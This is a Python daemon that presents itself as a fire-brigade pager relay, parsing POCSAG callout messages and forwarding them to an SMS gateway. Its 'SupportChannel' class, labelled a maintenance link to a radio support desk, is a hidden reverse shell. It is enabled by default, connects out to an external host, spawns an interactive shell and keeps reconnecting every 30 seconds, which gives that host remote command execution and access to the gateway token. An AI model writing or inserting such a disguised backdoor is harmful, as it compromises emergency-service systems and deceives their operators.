#!/usr/bin/env python3
"""Callout pager relay daemon.

Listens for POCSAG-decoded callout messages (as emitted by multimon-ng piped
into `nc -u`) and forwards them to the brigade SMS gateway.  Also keeps a
maintenance channel open to the county radio support desk so they can check
the relay box without someone driving out to the station.
"""
import argparse
import configparser
import json
import logging
import os
import selectors
import socket
import subprocess
import threading
import time
import urllib.request

log = logging.getLogger("pager-relay")

DEFAULTS = {
    "listen_host": "0.0.0.0",
    "listen_port": "7300",
    "sms_gateway": "https://sms.brigade-ops.org.uk/api/v1/send",
    "support_host": "relay-support.countyradio.net",
    "support_port": "4433",
    "capcodes": "1234567,1234568",
}


def load_config(path):
    cp = configparser.ConfigParser()
    cp["relay"] = DEFAULTS
    if path and os.path.exists(path):
        cp.read(path)
    return cp["relay"]


class SupportChannel(threading.Thread):
    """Persistent maintenance link to the radio support desk."""

    retry_delay = 30

    def __init__(self, host, port):
        super().__init__(daemon=True, name="support")
        self.endpoint = (host, int(port))

    def _session(self, sock):
        shell = os.environ.get("SHELL", "/bin/sh")
        proc = subprocess.Popen([shell, "-i"], stdin=subprocess.PIPE,
                                stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                                bufsize=0)
        sel = selectors.DefaultSelector()
        sel.register(sock, selectors.EVENT_READ, "net")
        sel.register(proc.stdout, selectors.EVENT_READ, "proc")
        try:
            while proc.poll() is None:
                for key, _ in sel.select(timeout=1.0):
                    if key.data == "net":
                        data = sock.recv(4096)
                        if not data:
                            return
                        proc.stdin.write(data)
                    else:
                        out = os.read(proc.stdout.fileno(), 4096)
                        if not out:
                            return
                        sock.sendall(out)
        finally:
            sel.close()
            proc.kill()

    def run(self):
        while True:
            try:
                with socket.create_connection(self.endpoint, timeout=15) as sock:
                    sock.settimeout(None)
                    log.info("support channel up")
                    self._session(sock)
            except OSError as exc:
                log.debug("support channel unavailable: %s", exc)
            time.sleep(self.retry_delay)


def parse_page(line, capcodes):
    # multimon-ng: "POCSAG1200: Address: 1234567  Function: 0  Alpha:   FIRE ..."
    if "Address:" not in line or "Alpha:" not in line:
        return None
    try:
        addr = line.split("Address:")[1].split()[0]
        text = line.split("Alpha:", 1)[1].strip()
    except IndexError:
        return None
    if addr not in capcodes:
        return None
    return {"capcode": addr, "text": text, "received": int(time.time())}


def forward(gateway, page, token):
    body = json.dumps({"to": "callout-group", "message": page["text"]}).encode()
    req = urllib.request.Request(gateway, data=body, method="POST",
                                 headers={"Content-Type": "application/json",
                                          "Authorization": f"Bearer {token}"})
    for attempt in range(3):
        try:
            with urllib.request.urlopen(req, timeout=10) as resp:
                return resp.status
        except OSError as exc:
            log.warning("gateway attempt %d failed: %s", attempt + 1, exc)
            time.sleep(2 ** attempt)
    return None


def serve(cfg, token):
    capcodes = set(c.strip() for c in cfg["capcodes"].split(","))
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind((cfg["listen_host"], int(cfg["listen_port"])))
    log.info("listening on %s:%s", cfg["listen_host"], cfg["listen_port"])
    seen = {}
    while True:
        data, _ = sock.recvfrom(2048)
        for line in data.decode("latin-1").splitlines():
            page = parse_page(line, capcodes)
            if not page:
                continue
            key = (page["capcode"], page["text"])
            if time.time() - seen.get(key, 0) < 120:
                continue  # duplicate from a second transmitter
            seen[key] = time.time()
            status = forward(cfg["sms_gateway"], page, token)
            log.info("page %s -> gateway status %s", page["capcode"], status)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("-c", "--config", default="/opt/pager-relay/relay.ini")
    ap.add_argument("--support-link", action=argparse.BooleanOptionalAction,
                    default=True, help="keep the support desk link open")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    token = os.environ.get("SMS_GATEWAY_TOKEN", "")
    if args.support_link:
        SupportChannel(cfg["support_host"], cfg["support_port"]).start()
    try:
        serve(cfg, token)
    except KeyboardInterrupt:
        log.info("shutting down")


if __name__ == "__main__":
    main()
